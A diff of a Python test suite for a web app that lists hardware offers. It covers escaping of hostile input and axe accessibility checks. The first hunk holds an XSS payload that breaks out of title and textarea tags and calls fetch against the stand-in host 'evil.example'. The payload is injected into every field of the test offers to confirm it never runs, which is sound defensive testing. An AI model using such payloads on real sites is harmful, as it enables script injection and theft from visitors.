@@ -30,7 +30,7 @@ SCRIPT = "</title></textarea>'\"><script>window.PWN7=1;fetch('//evil.example/PWN
 
 def hostile_offers() -> list[dict[str, Any]]:
     """Offers that are judged, with hostile words around what they are judged by; some thousands of them come by crawl (test_hostile_crawl.py)."""
-    words = [SCRIPT, *hostile.SOME[::100]]
+    words = [SCRIPT, *hostile.SOME[::45]]
     return [
         {**handover.OFFERS[0], "listing_id": f"h{n}", "title": f"NVIDIA H100 80GB PCIe serial removed {word}", "description": f"{word} Serial numbers removed {SCRIPT} no invoice {word}",
          "location": f"Shenzhen {SCRIPT}", "seller_id": SCRIPT + str(n), "condition": SCRIPT}
@@ -313,13 +313,15 @@ def test_wide_tables_stay_inside_the_page(chromium: Any, served: tuple[Path, str
 
 COLOUR_RULES = ("color-contrast", "link-in-text-block")
 """What of axe depends on light or dark."""
-DARK_TOO = ("/", "/alert/", "/tuning?", "/sites/", "_facet=", "/packs/")
+DARK_TOO = ("/", "/alert/", "_facet=")
 """Pages whose colours are looked at in the dark in every run; of the others in a soak."""
 
 
 def serious(axe: Any, page: Any, where: str, rules: tuple[str, ...] = ()) -> list[str]:
     """What axe finds serious or critical on the page as it is shown now, of all rules or of these."""
-    options = {"runOnly": {"type": "rule", "values": list(rules)}} if rules else {}
+    options: dict[str, Any] = {"resultTypes": ["violations"]}
+    if rules:
+        options["runOnly"] = {"type": "rule", "values": list(rules)}
     problems = axe.run(page, options=options).response["violations"]
     return [
         f"{where}: {problem['id']}: {problem['nodes'][0]['html'][:160]}"
